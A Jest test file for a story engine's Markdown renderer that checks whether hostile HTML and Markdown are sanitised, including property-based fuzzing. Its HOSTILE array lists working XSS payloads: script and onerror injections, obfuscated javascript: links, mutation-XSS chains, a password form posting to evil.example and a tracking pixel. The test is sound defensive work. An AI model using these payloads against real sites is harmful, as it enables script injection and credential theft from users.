import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import type { StorySchema } from '../../../src/engine/core/definition.js';
import { isFaulty } from '../../../src/engine/core/expressions/problem.js';
import { compile } from '../../../src/engine/core/story.js';
import { parseTemplate, render } from '../../../src/engine/core/templates/template.js';
import { renderMarkdown } from '../../../src/stories/markdown.js';
import { storyOf } from '../../support/definitions.js';

const SCHEMA: StorySchema = { variables: [{ name: 'hero', type: 'string', initial: '' }] };
const story = compile({ ...storyOf({ hall: ['end'], end: [] }), schema: SCHEMA });
const { index } = story.layout.find('variable', 'hero')!;

/** Liquid, Markdown, sanitising: the whole way to a reader. */
function shown(text: string, hero = ''): string {
  const template = parseTemplate(text, 'markdown', story.layout);
  const memory = story.layout.slots.map(({ initial }) => initial);
  memory[index] = hero;
  return renderMarkdown(isFaulty(template) ? text : render(template, memory));
}

const ELEMENTS = new Set(
  'p br hr em strong s a ul ol li blockquote code pre h1 h2 h3 h4 h5 h6 table thead tbody tr th td'.split(
    ' ',
  ),
);
const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'title', 'rel'],
  ol: ['start'],
};

/** Whether following a link, as a browser reads it, stays in the web or in mail. */
const isHarmless = (href: string): boolean =>
  !URL.canParse(href, 'https://talegraph.example') ||
  ['http:', 'https:', 'mailto:'].includes(new URL(href, 'https://talegraph.example').protocol);

/** Everything in HTML, read as a browser reads it, that text, formatting and web links do not need. */
function excesses(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.ChildNode): void => {
    if (node.nodeName === '#text') return;
    if (!('tagName' in node)) {
      found.push(node.nodeName);
      return;
    }
    if (!ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attrs) {
      if (!ATTRIBUTES[node.tagName]?.includes(name)) found.push(`${node.tagName} ${name}`);
      else if (name === 'href' && !isHarmless(value)) found.push(`href ${value}`);
    }
    node.childNodes.forEach(visit);
  };
  parseFragment(html).childNodes.forEach(visit);
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>@import "https://evil.example"</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](https://e.example "a" onclick="alert(1)")',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '<javascript:alert(1)>',
  '</p><script>alert(1)</script>',
  '`</code><script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '\u0000<scr\u0000ipt>alert(1)</script>',
];

describe('hostile Markdown and HTML', () => {
  it('is noticed by this test where it gets through', () => {
    expect(excesses('<p onclick="x">a<script>b</script><a href="javascript:x">c</a></p>')).toEqual([
      'p onclick',
      '<script>',
      'href javascript:x',
    ]);
  });

  it.each(HOSTILE)('does nothing in a text: %s', (text) => {
    expect(excesses(shown(text))).toEqual([]);
  });

  it.each(HOSTILE)('does nothing as a value that a reader gave: %s', (value) => {
    for (const text of [
      '{{ hero }}',
      '*{{ hero }}*',
      '[a]({{ hero }})',
      '`{{ hero }}`',
      '# {{ hero }}',
      '<{{ hero }}>',
    ]) {
      expect(excesses(shown(text, value))).toEqual([]);
    }
    const [only, ...more] = parseFragment(shown('{{ hero }}', value)).childNodes;
    expect(only?.nodeName).toBe('p');
    expect(more.filter(({ nodeName }) => nodeName !== '#text')).toEqual([]);
  });

  it('does nothing however its pieces are put together', () => {
    const pieces = [
      ...HOSTILE.flatMap((text) => text.split(/(?=[<>()[\]"'`:])/)),
      ...[
        '\n',
        '\n\n',
        ' ',
        '\\',
        '&lt;',
        '&#x3c;',
        '{{ hero }}',
        '*',
        '_',
        '~~',
        '    ',
        '> ',
        '1. ',
      ],
    ];
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 25 }).map((all) => all.join(''));
    fc.assert(
      fc.property(text, text, (written, hero) => {
        expect(excesses(shown(written, hero))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });
});
